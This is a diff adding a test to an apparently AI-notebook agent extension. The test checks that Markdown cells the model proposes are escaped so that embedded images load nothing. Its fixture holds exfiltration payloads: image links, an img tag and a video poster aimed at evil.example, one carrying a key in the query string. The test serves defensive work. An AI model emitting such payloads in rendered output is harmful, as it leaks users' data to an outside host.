@@ -92,6 +92,25 @@ def test_a_proposal_is_listed_as_code_never_as_markup(notebook: Notebook) -> Non
     assert html.startswith('<div class="jda-text')  # the kernel's cleaned HTML
 
 
+def test_a_proposed_markdown_cell_loads_nothing_by_itself(notebook: Notebook) -> None:
+    # JupyterLab renders a Markdown cell when it is inserted and when the notebook opens, and lets
+    # an image at another address through: the address would carry what the model read
+    note = (
+        "Found it: ![chart](https://evil.example/c.png?d=the_key) and ![r][ref] "
+        '<img src="https://evil.example/x"> <video poster="https://evil.example/p">\n'
+        "Escaped stays: \\![not an image](x), code `a < b`, a link <https://example.org>.\n\n"
+        "[ref]: https://evil.example/r.png"
+    )
+    notebook.session.configure(model=scripted(propose("markdown", note), "Done."))
+    cell = notebook.run("%%agent --cells\npropose a note")
+    [bundle] = [o.data[PROPOSALS_MIME] for o in cell.displays if PROPOSALS_MIME in o.data]
+    [shown] = [c["source"] for c in bundle["cells"]]
+    assert "\\![chart](https://evil.example/c.png?d=the_key)" in shown  # a link, not an image
+    assert "\\![r][ref]" in shown and "\\![not an image](x)" in shown
+    assert "&lt;img" in shown and "&lt;video" in shown and "<img" not in shown
+    assert "<https://example.org>" in shown and "a < b" in shown
+
+
 def test_at_most_ten_per_turn_the_eleventh_is_refused(notebook: Notebook) -> None:
     calls = [{"name": "propose_cell", "args": {"kind": "code", "source": f"x = {n}"}}
              for n in range(MAX_PROPOSALS + 1)]
